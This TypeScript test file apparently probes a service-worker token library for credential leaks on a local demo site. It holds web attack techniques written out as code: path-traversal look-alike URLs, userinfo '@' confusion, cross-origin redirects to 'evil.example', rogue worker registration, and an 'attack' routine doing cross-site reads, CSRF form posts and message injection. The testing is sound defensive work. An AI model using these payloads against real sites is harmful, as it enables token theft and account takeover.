import { afterAll, beforeAll, expect } from 'vitest'
import { signedInTabs } from '../../../support/demo-tabs.js'
import type { Profile, Tab } from '../../../support/engines/engine.js'
import { foreignUrls } from '../../../support/foreign-urls.js'
import { inEngines } from '../../../support/in-engines.js'
import { send, stateOf } from '../../../support/session-page.js'
import { hasToken } from '../any-token.js'
import { attempted, type Given } from '../attempted.js'
import type { Arrived } from '../odd-servers.js'
import { type Site, startSite } from '../site.js'
import type { Verdict } from '../verdict.js'

interface Opened {
  readonly profile: Profile
  readonly tab: Tab
  /** Our origin. */
  readonly origin: string
  readonly otherPort: string
  readonly elsewhere: string
}

const verdictOn = (isPossible: boolean): Verdict => (isPossible ? 'possible' : 'stopped')

const carriesToken = ({ headers }: Arrived): boolean =>
  headers.authorization !== undefined || /_token=/.test(headers.cookie ?? '')

inEngines((engine) => {
  let site: Site
  beforeAll(async () => {
    site = await startSite(engine)
  })
  afterAll(() => site?.stop())

  async function prepare({ here, openProfile }: Given, keeping: object): Promise<Opened> {
    const profile = await openProfile()
    const [tab] = await signedInTabs({ ...here, originFor: site.originFor }, profile, 1, keeping)
    const origin = site.originFor(keeping)
    return { profile, tab, origin, ...site.strangerFor(origin) }
  }

  attempted(engine, 'elsewhere', prepare, {
    'have the worker send tokens elsewhere by options in its URL': async ({ tab, elsewhere }, keeping) => {
      site.there.length = 0
      const query = new URLSearchParams({ ...keeping, protect: `${elsewhere}/` })
      expect(await tab.evaluate(registerInPage, `/sw.js?${query}`)).toContain('protect=')
      await signedIn(tab)
      await tab.evaluate(askInEveryWay, `${elsewhere}/api/me`)
      expect(await send(tab, '/api/me')).toEqual([200])
      return verdictOn(site.there.some(carriesToken))
    },

    'read tokens from an API that echoes request headers': async ({ tab }) =>
      verdictOn(hasToken(await tab.evaluate(read, '/api/odd/mirror'))),

    'have the credential follow a redirect to another origin': async ({ tab, elsewhere }) => {
      site.there.length = 0
      await tab.evaluate(askInEveryWay, `/api/redirect?to=${encodeURIComponent(`${elsewhere}/after`)}`)
      expect(site.there.length).toBeGreaterThan(3)
      return verdictOn(site.there.some(carriesToken))
    },

    'have the credential sent to look-alike URLs and paths': async ({ tab, origin, elsewhere }) => {
      site.here.length = 0
      site.there.length = 0
      await tab.evaluate(askAll, [
        ...LOOK_ALIKES.map((path) => `${origin}${path}`),
        `${elsewhere}/api/me?alike`,
        `${origin.replace('localhost', '127.0.0.1')}/api/me?alike`,
        `${origin.replace('://', '://user:password@')}@127.0.0.1/api/me?alike`,
        `${origin}@127.0.0.1:${new URL(elsewhere).port}/api/me?alike`,
      ])
      const alike = site.here.filter(({ path }) => path.includes('alike'))
      expect(alike.length).toBeGreaterThan(LOOK_ALIKES.length / 2)
      // Cookies go to all of their own origin, which is no news to anybody.
      const isLed = alike.some(({ headers }) => headers.authorization || headers['holdfast-tokens'])
      return verdictOn(isLed || site.there.some(carriesToken))
    },

    'have another port of the same host get tokens': async ({ tab, otherPort }) => {
      site.there.length = 0
      await tab.evaluate(askInEveryWay, `${otherPort}/api/me`)
      return verdictOn(site.there.some(carriesToken))
    },

    'be led to another site, or to a `blob:`, by `returnTo`': async ({ tab }) => {
      await tab.evaluate(run, '/api/odd/return-to.js')
      const here = new URL(await tab.evaluate(() => location.href))
      return verdictOn(await tab.evaluate(leadsElsewhere, foreignUrls(here)))
    },

    'serve pages by a worker of their own: `blob:`, `data:`, a script of the API for a wider scope': async ({
      tab,
    }) => verdictOn(await tab.evaluate(registerOwn)),

    'have a script of the API serve pages below the API': async ({ tab }) =>
      (await tab.evaluate(registerBelow)) ? 'limited' : 'stopped',

    'be given by the HTTP cache what was fetched as another user': async ({ tab }) => {
      const first = await tab.evaluate(read, '/api/odd/kept')
      await tab.evaluate(() => window.session.signIn({ username: 'second', password: 'second' }))
      return verdictOn((await tab.evaluate(read, '/api/odd/kept')) === first)
    },

    'take the worker away, or lay another over a part of its scope': async ({ tab, origin }, keeping) => {
      const query = new URLSearchParams({ ...keeping })
      await tab.evaluate(takeAway, `/sw.js?${query}`)
      await tab.goto(`${origin}/minimal.html?${query}&again`)
      await tab.evaluate(() => window.session.ready)
      await signedIn(tab)
      return (await send(tab, '/api/me'))[0] === 200 ? 'limited' : 'possible'
    },

    'read, or act as the user, from a page of another site: fetch, forms, frames, messages, channel, socket, worker':
      async ({ profile, tab, origin, elsewhere }) => {
        await site.demo.debug('reset')
        site.here.length = 0
        const foreign = await profile.openTab(`${elsewhere}/page.html`)
        const read = await foreign.evaluate(attack, {
          origin,
          socket: site.demo.origin.replace('http', 'ws'),
        })
        const before = (await site.demo.stats()).apiRequests
        await foreign.evaluate(postForm, `${origin}/api/echo`)
        await expect.poll(async () => (await site.demo.stats()).apiRequests).toBeGreaterThan(before)
        // What our worker asks for by itself, such as a refresh when it starts, has a key.
        const asked = site.here.filter(
          ({ path, headers }) => /^\/(api|auth)\//.test(path) && !headers['idempotency-key'],
        )
        expect(asked.length).toBeGreaterThan(6)
        const isObeyed = asked.some(carriesToken) || (await site.demo.stats()).familiesRevoked > 0
        const state = await stateOf(tab)
        const isWhole = state.status === 'active' && (await send(tab, '/api/me'))[0] === 200
        return verdictOn(read.length > 0 || isObeyed || !isWhole)
      },
  })
})

const LOOK_ALIKES = [
  '/api-evil/x?alike',
  '/apix?alike',
  '/API/me?alike',
  '/xapi/?alike',
  '/x/api/?alike',
  '/api%2fme?alike',
  '/?alike=/api/',
  '/api/..%2Fauth/token?alike',
  '/api/..%5cauth/token?alike',
  '/api/%2e%2e%2Fauth/token?alike',
  '/api/x/..%2f..%2fauth/token?alike',
  '/api/../auth/token?alike',
  '/api/..;/auth/token?alike',
]

/** Of what is in memory another worker knows nothing. */
async function signedIn(tab: Tab): Promise<void> {
  if ((await send(tab, '/api/me'))[0] !== 200)
    await tab.evaluate(() => window.session.signIn({ username: 'demo', password: 'demo' }))
}

function read(url: string): Promise<string> {
  return fetch(url).then((response) => response.text())
}

async function askAll(urls: readonly string[]): Promise<void> {
  await Promise.all(
    urls.map(async (url) => {
      await fetch(url, { credentials: 'include' }).catch(() => {})
      const image = new Image()
      image.src = url
      await image.decode().catch(() => {})
    }),
  )
}

/** Whatever of the page can ask for a URL. */
async function askInEveryWay(url: string): Promise<void> {
  const ended = (element: HTMLElement) =>
    new Promise<void>((resolve) => {
      for (const type of ['load', 'error', 'loadeddata']) element.addEventListener(type, () => resolve())
      setTimeout(resolve, 3_000)
      document.body.append(element)
    })
  const element = (name: string, attributes: object) =>
    ended(Object.assign(document.createElement(name), attributes))
  const byXhr = new Promise<void>((resolve) => {
    const xhr = new XMLHttpRequest()
    xhr.open('GET', url)
    xhr.withCredentials = true
    xhr.onloadend = () => resolve()
    xhr.send()
  })
  const events = new EventSource(url, { withCredentials: true })
  const byEvents = new Promise<void>((resolve) => {
    events.onerror = () => resolve()
  })
  // What nobody reads, or can read, would hold back the next version of the worker.
  const over = new AbortController()
  const byFetch = (init: RequestInit) =>
    fetch(url, { credentials: 'include', signal: over.signal, ...init }).then(
      (response) => response.blob(),
      () => {},
    )
  await Promise.all([
    byFetch({}),
    byFetch({ mode: 'no-cors' }),
    byFetch({ method: 'POST', body: 'x' }),
    byXhr,
    byEvents,
    element('img', { src: url }),
    element('script', { src: url }),
    element('iframe', { src: url }),
    element('video', { src: url, preload: 'auto' }),
    element('link', { rel: 'stylesheet', href: url }),
  ])
  events.close()
  over.abort()
  for (const added of document.body.querySelectorAll('img, iframe, video, link')) added.remove()
}

async function run(source: string): Promise<void> {
  const script = Object.assign(document.createElement('script'), { type: 'module', src: source })
  const isRun = new Promise((resolve) => {
    script.onload = resolve
    script.onerror = resolve
  })
  document.body.append(script)
  await isRun
}

function leadsElsewhere(urls: readonly string[]): boolean {
  const { origin, protocol } = location
  const shapes = [...urls, `${protocol}evil.example`, URL.createObjectURL(new Blob(['x']))]
  return shapes.some((shape) => {
    const page = window.pageOf(shape)
    if (page === null) return false
    const target = new URL(page, location.href)
    return target.origin !== origin || target.protocol !== protocol
  })
}

/** @returns Whether the browser takes any of them. */
async function registerOwn(): Promise<boolean> {
  const source = `onfetch = (event) => event.respondWith(new Response('taken'))`
  const blob = URL.createObjectURL(new Blob([source], { type: 'text/javascript' }))
  const wide = [blob, `data:text/javascript,${source}`, '/api/odd/script.js', '/api/odd/mirror', '/icon.svg']
  const taken = await Promise.all(
    wide.map((url) =>
      navigator.serviceWorker.register(url, { scope: '/' }).then(
        () => true,
        () => false,
      ),
    ),
  )
  return taken.includes(true)
}

async function registerBelow(): Promise<boolean> {
  const registration = await navigator.serviceWorker.register('/api/odd/script.js').catch(() => undefined)
  await registration?.unregister()
  return registration !== undefined
}

/** @returns What it could read. */
async function attack({ origin, socket }: { origin: string; socket: string }): Promise<string[]> {
  const stolen: string[] = []
  const keep = (text: string) => stolen.push(text)
  const credentials = 'include'
  await Promise.all(
    ['/api/me', '/auth/sessions'].map((path) =>
      fetch(origin + path, { credentials }).then(
        (response) => response.text().then(keep),
        () => {},
      ),
    ),
  )
  const writes = ['/api/echo', '/auth/refresh', '/auth/logout', '/auth/token']
  for (const path of writes) {
    const body = new URLSearchParams({ username: 'second', password: 'second' })
    await fetch(origin + path, { method: 'POST', mode: 'no-cors', credentials, body }).catch(() => {})
    const headers = { 'holdfast-tokens': 'refresh=body; access=header' }
    await fetch(origin + path, { method: 'POST', headers, credentials }).then(
      (response) => response.text().then(keep),
      () => {},
    )
    const frame = document.createElement('iframe')
    frame.name = path.replaceAll('/', '-')
    document.body.append(frame)
    const form = document.body.appendChild(document.createElement('form'))
    Object.assign(form, { method: 'post', action: origin + path, target: frame.name })
    const loaded = new Promise((resolve) => {
      frame.onload = resolve
      setTimeout(resolve, 1_000)
    })
    form.submit()
    await loaded
  }
  const page = document.body.appendChild(document.createElement('iframe'))
  page.src = `${origin}/minimal.html`
  await new Promise((resolve) => {
    page.onload = resolve
    setTimeout(resolve, 2_000)
  })
  addEventListener('message', ({ data }) => keep(JSON.stringify(data)))
  const channel = new BroadcastChannel('holdfast')
  channel.onmessage = ({ data }) => keep(JSON.stringify(data))
  for (const message of [
    { holdfast: 'changed', revision: 9 },
    { holdfast: 'link' },
    { holdfast: 'take-over' },
  ]) {
    page.contentWindow?.postMessage(message, '*', [new MessageChannel().port2])
    channel.postMessage(message)
  }
  await navigator.serviceWorker?.register(`${origin}/sw.js`).then(
    () => keep('a worker'),
    () => {},
  )
  await new Promise<void>((resolve) => {
    const opened = new WebSocket(`${socket}/api/socket`)
    opened.onopen = () => resolve(void keep('a socket'))
    opened.onerror = () => resolve()
  })
  return stolen
}

/** Once this has been answered, because it leads away. */
function postForm(action: string): void {
  const form = document.body.appendChild(document.createElement('form'))
  Object.assign(form, { method: 'post', action, enctype: 'text/plain' })
  setTimeout(() => form.submit(), 100)
}

/** As a script of the page would: has this worker take the page over. @returns Which one serves it. */
async function registerInPage(url: string): Promise<string | undefined> {
  const taken = new Promise((resolve) => {
    navigator.serviceWorker.addEventListener('controllerchange', resolve, { once: true })
    setTimeout(resolve, 60_000)
  })
  await navigator.serviceWorker.register(url)
  await taken
  return navigator.serviceWorker.controller?.scriptURL
}

async function takeAway(script: string): Promise<void> {
  await navigator.serviceWorker.register(script, { scope: '/assets/' })
  const registration = await navigator.serviceWorker.getRegistration('/')
  await registration?.unregister()
}
